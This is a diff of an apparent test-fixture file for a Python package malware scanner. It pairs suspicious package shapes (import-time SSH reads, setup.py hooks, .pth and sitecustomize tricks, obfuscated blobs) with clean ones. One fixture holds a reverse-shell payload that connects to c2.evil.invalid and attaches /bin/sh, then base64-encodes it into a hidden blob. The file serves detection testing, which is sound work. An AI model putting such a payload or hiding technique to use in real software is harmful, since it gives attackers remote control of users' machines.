@@ -108,8 +108,8 @@ __pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52')
 
 _HIDDEN_CODE = (
     b"import socket, subprocess\n"
-    b"s = socket.create_connection((\"c2.evil.invalid\", 443))\n"
-    b"subprocess.call([\"/bin/sh\", \"-i\"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n"
+    b's = socket.create_connection(("c2.evil.invalid", 443))\n'
+    b'subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n'
 )
 HIDDEN = f'BLOB = "{base64.b64encode(_HIDDEN_CODE).decode()}"\n'
 
@@ -165,23 +165,41 @@ def _pth_literal(directory: Path) -> Path:
 
 FIXTURES: dict[str, tuple[Builder, Builder]] = {
     "CW201": (shapes.litellm_1_82_7, shapes.litellm_clean),
-    "CW202": (shapes.lightning_runtime, _wheel("dl", {"dl/__init__.py": "", "dl/fetch.py": shapes.LIGHTNING_START.replace("\nmain()\n", "\n")})),
+    "CW202": (
+        shapes.lightning_runtime,
+        _wheel("dl", {"dl/__init__.py": "", "dl/fetch.py": shapes.LIGHTNING_START.replace("\nmain()\n", "\n")}),
+    ),
     "CW203": (shapes.mrmustard_injected, _wheel("httplib", {"httplib/__init__.py": HTTP_LIB})),
     "CW204": (shapes.litellm_1_82_8, _wheel("spawner", {"spawner/__init__.py": SPAWN_HELPER})),
     "CW205": (shapes.mrmustard_injected, _wheel("tool", {"tool/__init__.py": COMPLETION})),
-    "CW206": (_wheel("keyed", {"keyed/__init__.py": SSH_READ_AT_IMPORT}), _wheel("keyed", {"keyed/__init__.py": SSH_CONFIG_LIB})),
+    "CW206": (
+        _wheel("keyed", {"keyed/__init__.py": SSH_READ_AT_IMPORT}),
+        _wheel("keyed", {"keyed/__init__.py": SSH_CONFIG_LIB}),
+    ),
     "CW207": (_sdist("pingme", {"setup.py": SETUP_PING}), _wheel("httplib", {"httplib/__init__.py": HTTP_LIB})),
     "CW208": (shapes.thread_system, shapes.thread_clean),
     "CW209": (_wheel("jsrt", {"jsrt/__init__.py": NODE_AT_IMPORT}), _wheel("jsrt", {"jsrt/__init__.py": NODE_ON_CALL})),
-    "CW210": (_wheel("old", {"old/__init__.py": 'print "hello"\n'}), _wheel("old", {"old/__init__.py": 'print("hello")\n'})),
+    "CW210": (
+        _wheel("old", {"old/__init__.py": 'print "hello"\n'}),
+        _wheel("old", {"old/__init__.py": 'print("hello")\n'}),
+    ),
     "CW211": (
         _wheel("enc", {"enc/__init__.py": b"# coding: unicode_escape\nx = 1 #\\u000aimport os\n"}),
         _wheel("enc", {"enc/__init__.py": b"# -*- coding: latin-1 -*-\nname = 'caf\xe9'\n"}),
     ),
-    "CW212": (_wheel("compiled", {"compiled/__init__.pyc": PYC}), _wheel("compiled", {"compiled/__init__.py": "", "compiled/__pycache__/__init__.cpython-311.pyc": PYC})),
+    "CW212": (
+        _wheel("compiled", {"compiled/__init__.pyc": PYC}),
+        _wheel("compiled", {"compiled/__init__.py": "", "compiled/__pycache__/__init__.cpython-311.pyc": PYC}),
+    ),
     "CW213": (_wheel("shadow", {"json.py": "x = 1\n"}), _wheel("shadow", {"jsonutils.py": "x = 1\n"})),
-    "CW214": (_wheel("hook", {"sitecustomize.py": "import sys\n"}), _wheel("hook", {"hook/customize.py": "import sys\n"})),
-    "CW215": (_wheel("armored", {"armored/__init__.py": PYARMOR}), _wheel("armored", {"armored/__init__.py": "x = 1\n"})),
+    "CW214": (
+        _wheel("hook", {"sitecustomize.py": "import sys\n"}),
+        _wheel("hook", {"hook/customize.py": "import sys\n"}),
+    ),
+    "CW215": (
+        _wheel("armored", {"armored/__init__.py": PYARMOR}),
+        _wheel("armored", {"armored/__init__.py": "x = 1\n"}),
+    ),
     "CW216": (_sdist("hooked", {"setup.py": SETUP_CMDCLASS}), _sdist("plain", {"setup.py": SETUP_PLAIN})),
     "CW217": (_pth_dynamic, _pth_literal),
     "CW218": (_wheel("blob", {"blob/__init__.py": HIDDEN}), _wheel("blob", {"blob/__init__.py": IMAGE})),
